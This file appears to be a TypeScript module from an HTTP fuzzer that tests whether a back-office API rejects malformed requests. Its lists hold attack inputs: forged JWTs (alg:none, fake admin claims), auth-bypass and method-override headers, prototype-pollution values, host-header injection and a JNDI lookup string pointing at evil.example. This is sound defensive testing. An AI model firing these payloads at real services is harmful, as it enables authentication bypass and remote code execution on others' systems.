import { mutation, type Mutation, REFUSED } from './mutation.ts';
import type { FuzzRequest } from './request.ts';
import { anyText, known, type Source } from './valid-values.ts';

const withHeader = (request: FuzzRequest, name: string, value: string): FuzzRequest => ({
  ...request,
  headers: [...request.headers.filter(([key]) => key !== name), [name, value]],
});

const without = (request: FuzzRequest, name: string): FuzzRequest => ({
  ...request,
  headers: request.headers.filter(([key]) => key !== name),
});

const base64url = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

const withClaims = (token: string, claims: object): string => {
  const [head = '', , signature = ''] = token.split('.');
  return [head, base64url(claims), signature].join('.');
};

/** Authorization headers that contain no valid back-office token. */
const NO_TOKEN: readonly ((token: string, source: Source) => string)[] = [
  () => 'Bearer',
  () => 'Bearer null',
  () => `Basic ${Buffer.from('admin:admin').toString('base64')}`,
  (token) => token,
  (token) => `Bearer ${token} ${token}`,
  (token) => `Bearer ${token.split('.').slice(0, 2).join('.')}.`,
  (token) => `Bearer ${base64url({ alg: 'none' })}.${token.split('.')[1] ?? ''}.`,
  (token) => `Bearer ${withClaims(token, { sub: 'admin', exp: 9_999_999_999 })}`,
  () => `Bearer ${'a'.repeat(8_000)}`,
  (_token, source) => `Bearer ${known('accessToken', source)}`,
  (_token, source) => `Bearer ${known('reference checkoutToken', source).split(' ')[1] ?? ''}`,
  (_token, source) =>
    `Bearer ${anyText(source)
      .replaceAll(/[^ -~]/g, '?')
      .slice(0, 500)}`,
];

const badToken = mutation('no valid token', (request, source) => {
  if (!request.operation.needsToken) return undefined;
  const token = request.headers.find(([name]) => name === 'authorization')?.[1].replace('Bearer ', '') ?? '';
  const changed = source.draw.chance(0.3)
    ? without(request, 'authorization')
    : withHeader(request, 'authorization', source.draw.pick(NO_TOKEN)(token, source));
  return { request: changed, wants: [401] };
});

const tokenElsewhere = mutation('the token in another place', (request, { draw }) => {
  if (!request.operation.needsToken) return undefined;
  const given = request.headers.find(([name]) => name === 'authorization')?.[1] ?? '';
  const token = given.replace('Bearer ', '');
  const bare = without(request, 'authorization');
  return {
    request: draw.pick([
      { ...bare, query: [...bare.query, ['access_token', token] as const] },
      withHeader(bare, 'cookie', `token=${token}`),
      withHeader(bare, 'proxy-authorization', given),
      withHeader(bare, 'x-authorization', given),
      { ...request, headers: [...request.headers, ['authorization', given] as const] },
    ]),
    wants: [401],
  };
});

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PURGE'];

const otherMethod = mutation('another method', (request, { draw }) => ({
  request: { ...request, method: draw.pick(METHODS.filter((method) => method !== request.method)) },
}));

/** Headers that the service, or another program on the way to it, reads or trusts. */
const HEADERS: readonly (readonly [string, string])[] = [
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/api/admin/bookings'],
  ['x-forwarded-for', '127.0.0.1, __proto__'],
  ['x-forwarded-host', 'evil.example'],
  ['forwarded', 'for=_a;host=evil.example'],
  ['origin', 'null'],
  ['origin', 'https://studio.example'],
  ['access-control-request-method', 'DELETE'],
  ['accept', 'text/html'],
  ['accept-encoding', 'gzip, br;q=__proto__'],
  ['content-encoding', 'gzip'],
  ['if-none-match', '*'],
  ['range', 'bytes=0-0'],
  ['cookie', '__proto__=polluted'],
  ['x-request-id', 'a'.repeat(3_000)],
  ['accept-language', `${'fr,'.repeat(1_000)}en`],
  ['accept-language', ';q=,,;__proto__;q=1e400'],
  ['gateway-signature', 'AAAA'],
  ['flutterwave-signature', 'AAAA'],
  ['user-agent', '${jndi:ldap://evil.example}'],
  ['__proto__', 'polluted'],
  ['constructor', 'polluted'],
];

const oddHeader = mutation('an odd header', (request, source) => {
  const { draw } = source;
  const [name, value] = draw.pick(HEADERS);
  const text = draw.chance(0.3)
    ? anyText(source)
        .replaceAll(/\p{Cc}|[^ -ÿ]/gu, '?')
        .slice(0, 2_000)
    : value;
  return { request: withHeader(request, name, text) };
});

const HOSTS = ['', 'a b', 'evil.example/', 'a,b', 'a@b', 'http://a', 'a:b', 'a:99999999', '[::1', '..\\'];

const oddHost = mutation('an odd host', (request, { draw }) => ({
  request: draw.chance(0.8)
    ? withHeader(request, 'host', draw.pick(HOSTS))
    : { ...request, headers: [...request.headers, ['host', 'a.example'], ['host', 'b.example']] },
  wants: REFUSED,
}));

export const HEADER_MUTATIONS: readonly Mutation[] = [
  badToken,
  badToken,
  tokenElsewhere,
  otherMethod,
  oddHeader,
  oddHeader,
  oddHost,
];
